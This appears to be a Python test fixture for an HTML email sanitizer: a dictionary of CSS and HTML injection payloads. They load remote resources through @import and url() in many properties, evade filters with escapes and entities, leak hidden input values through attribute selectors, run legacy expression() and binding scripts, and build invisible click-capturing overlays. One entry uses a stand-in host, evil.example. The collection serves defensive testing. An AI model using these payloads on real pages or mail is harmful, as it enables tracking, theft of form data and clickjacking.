"""Styles: whatever a style sheet or an attribute of style can ask for, cover or find out."""

# ruff: noqa: E501 - a payload is one text
from __future__ import annotations

_LETTER = "<input value=secret type=hidden><input value=secret>"
STYLES = {
    "a sheet imported": "<style>@import url({far});</style>",
    "a sheet imported by a text": "<style>@import '{far}';</style>",
    "a sheet imported into a layer": "<style>@import url({far}) layer(x) supports(display:block) screen;</style>",
    "a sheet imported by escapes": "<style>@\\69mport u\\72l({far});</style>",
    "a sheet imported behind a comment": "<style>/*a*/@import/**/url({far});</style>",
    "a sheet within a drawing": "<svg><style>@import '{far}';</style></svg>",
    "a ground": "<p style='background:url({far})'>x</p>",
    "a ground in quotes": "<p style='background:url(\"{far}\")'>x</p>",
    "a ground by escapes": "<p style='background:\\75\\72\\6c({far})'>x</p>",
    "a ground by entities": "<p style='background&colon;u&#114;l({far})'>x</p>",
    "a ground without a scheme": "<p style='background:url(//evil.example/{n})'>x</p>",
    "a ground of all": "<style>*{background:url({far})}</style>",
    "a ground of the root": "<style>:root{background-image:url({far})}</style>",
    "a ground of a set": "<p style='background-image:image-set(\"{far}\" 1x)'>x</p>",
    "a ground of an old set": "<p style='background-image:-webkit-image-set(url({far}) 1x)'>x</p>",
    "a ground faded in": "<p style='background-image:-webkit-cross-fade(url({far}),url({far}),50%)'>x</p>",
    "a ground by a variable": "<p style='--a:url({far});background:var(--a)'>x</p>",
    "a pointer": "<p style='cursor:url({far}),auto'>x</p>",
    "a mark of a list": "<li style='list-style-image:url({far})'>x</li>",
    "a mark of a list in short": "<li style='list-style:url({far})'>x</li>",
    "a content": "<style>p::before{content:url({far})}</style><p>x</p>",
    "a border": "<p style='border:9px solid;border-image:url({far}) 9'>x</p>",
    "a mask": "<p style='-webkit-mask-image:url({far})'>x</p>",
    "a mask in short": "<p style='mask:url({far})'>x</p>",
    "a filter": "<p style='filter:url({far}#f)'>x</p>",
    "a clip": "<p style='clip-path:url({far}#c)'>x</p>",
    "a shape": "<p style='float:left;shape-outside:url({far})'>x</p>",
    "a font": "<style>@font-face{font-family:a;src:url({far})}p{font-family:a}</style><p>x</p>",
    "a font that tells letters": "<style>@font-face{font-family:b;src:url({far});unicode-range:U+78}p{font-family:b}</style><p>x</p>",
    "a field read letter by letter": f"{_LETTER}<style>input[value^=s]{{background:url({{far}})}}</style>",
    "a field read from its neighbour": f"{_LETTER}<style>input[value^=s]+input{{background:url({{far}})}}</style>",
    "a page read by what it has": f"{_LETTER}<style>body:has(input[value^=s]){{background:url({{far}})}}</style>",
    "a width that asks": "<style>@media (min-width:1px){p{background:url({far})}}</style><p>x</p>",
    "a sheet in the mail's own frame": "<style>@container style(--a:b){}p{background:url({far})}</style><p>x</p>",
    "a property with a first value": (
        "<style>@property --z{syntax:'<image>';inherits:false;initial-value:none}p{--z:url({far});background:var(--z)}</style><p>x</p>"
    ),
    "a scroll that sets off": "<style>@keyframes g{to{background:url({far})}}p{animation:g 1ms forwards}</style><p>x</p>",
    "a style never closed": "<style>p{background:url({far})}",
    "a style with the end in a text": "<style>p::after{content:'</style><img src={far}>'}</style>",
    "an expression": "<p style='width:expression({do})'>x</p>",
    "a behaviour": "<p style='behavior:url({far})'>x</p>",
    "a binding": "<p style='-moz-binding:url({far})'>x</p>",
    "a cover over the page": "<p style='position:fixed;inset:0;z-index:9999;background:red'>x</p>",
    "a cover that is not seen": "<a href={far} style='position:fixed;inset:0;opacity:0'>x</a>",
}
